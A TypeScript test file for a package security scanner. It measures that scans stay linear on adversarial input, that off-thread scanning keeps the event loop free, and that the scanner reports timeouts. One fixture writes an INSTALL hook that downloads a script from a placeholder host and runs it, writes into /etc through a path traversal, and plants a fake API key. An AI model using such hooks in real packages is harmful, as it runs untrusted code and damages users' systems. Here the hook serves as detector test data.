/**
 * Pins that the package scan stays linear on each adversarial input (test/support/adversarial-hooks.ts):
 * quadratic or worse rules took minutes on them at the 4 MiB the scan reads of a file (a scan runs
 * inside the server, on publisher text), the linear ones about a second. Each case is scanned at
 * 256 KiB and at 2 MiB, 8 times as much, and the larger scan must cost under 32 times the smaller's
 * CPU time (the process's, so other work on the machine does not count): a linear rule costs about
 * 8 times (3-17 measured at load 19), a quadratic one 64. So a rule fails here once its quadratic
 * part costs about as much as the linear rest at 256 KiB, i.e. about 12 times the linear scan at
 * 4 MiB (some 10-40 s there): where a wall-clock limit of 30 s at 4 MiB was, without its failures
 * on a loaded machine. The time taken at 4 MiB is the benchmark's
 * (bench/scan.ts, against an older tree in one invocation); the generous timeout still catches a
 * scan that has gone far worse.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { loadDenyList, scanOffThread, scanPackageDir } from '../../src/sources/index.ts';
import { ADVERSARIAL_CASES } from '../support/adversarial-hooks.ts';

const MiB = 1024 * 1024;
const deny = loadDenyList(undefined);
let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'scan-linear-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** The smaller size each case is scanned at, and how many times as much the larger is. */
const SMALL = 256 * 1024;
const TIMES = 8;
/** The most the larger scan may cost, in smaller scans: 4 times linear, half of quadratic. */
const MOST = 32;

/**
 * Scans a package holding a license and `content` (at most what the scan reads of a file) at
 * `file`; returns the CPU milliseconds (user + system) the process spent in the scan.
 */
async function scan(file: string, content: string): Promise<number> {
  expect(Buffer.byteLength(content)).toBeLessThanOrEqual(4 * MiB);
  const pkg = await mkdtemp(join(dir, 'pkg-'));
  await writeFile(join(pkg, 'LICENSE'), 'MIT');
  await mkdir(dirname(join(pkg, file)), { recursive: true });
  await writeFile(join(pkg, file), content);
  const before = process.cpuUsage();
  await scanPackageDir(pkg, undefined, deny);
  const used = process.cpuUsage(before);
  await rm(pkg, { recursive: true, force: true });
  return (used.user + used.system) / 1000;
}

describe('scanPackageDir on adversarial input', () => {
  it.each(ADVERSARIAL_CASES)(
    `stays linear from ${SMALL / 1024} KiB to ${(TIMES * SMALL) / MiB} MiB of %s`,
    async (_what, file, make) => {
      const small = make(SMALL);
      // The cheaper of two small scans: the first may pay for compiling the rules.
      const smallMs = Math.max(1, Math.min(await scan(file, small), await scan(file, small)));
      const largeMs = await scan(file, make(TIMES * SMALL));
      expect(
        largeMs / smallMs,
        `${smallMs.toFixed(0)} ms CPU at ${SMALL / 1024} KiB, ${largeMs.toFixed(0)} ms at ${(TIMES * SMALL) / MiB} MiB`,
      ).toBeLessThan(MOST);
    },
    30_000,
  );
});

describe('scanOffThread', () => {
  /** A package of two 4 MiB hooks of the slowest input: seconds of synchronous rules in all. */
  async function heavyPackage(): Promise<string> {
    const pkg = await mkdtemp(join(dir, 'heavy-'));
    const [, , make] = ADVERSARIAL_CASES[0]!;
    const hook = make(4 * MiB);
    await writeFile(join(pkg, 'LICENSE'), 'MIT');
    for (const name of ['INSTALL', 'UNINSTALL']) await writeFile(join(pkg, name), hook);
    return pkg;
  }

  it('finds what the scan finds, while the event loop goes on', async () => {
    const pkg = await heavyPackage();
    // The longest the event loop went without running a 10 ms timer while the scan ran.
    let last = performance.now();
    let longest = 0;
    const ticks = setInterval(() => {
      const now = performance.now();
      longest = Math.max(longest, now - last);
      last = now;
    }, 10);
    const started = performance.now();
    const findings = await scanOffThread(pkg, undefined, deny);
    const took = performance.now() - started;
    clearInterval(ticks);
    expect(findings.some((f) => f.id === 'install.download-exec')).toBe(true);
    // In-thread, the loop stood still for the whole scan (seconds); off it, for no more than a GC.
    expect(longest).toBeLessThan(took / 4);
  }, 60_000);

  it('answers what the scan in this thread answers', async () => {
    const pkg = await mkdtemp(join(dir, 'small-'));
    await writeFile(
      join(pkg, 'INSTALL'),
      'curl -o x.sh https://x.example/x.sh\nsh x.sh\necho "$AGPK_INSTALL_ROOT/../../etc/x" > /etc/x\n',
    );
    await writeFile(join(pkg, 'key.txt'), `sk-proj-${'a'.repeat(48)}`);
    const findings = await scanOffThread(pkg, undefined, deny);
    expect(findings.length).toBeGreaterThan(1);
    expect(findings).toEqual(await scanPackageDir(pkg, undefined, deny));
  });

  it('stops a scan that outlasts its limit, and says so as a high finding', async () => {
    const findings = await scanOffThread(await heavyPackage(), undefined, deny, 50);
    expect(findings).toEqual([expect.objectContaining({ id: 'scan.timeout', severity: 'high' })]);
  });
});
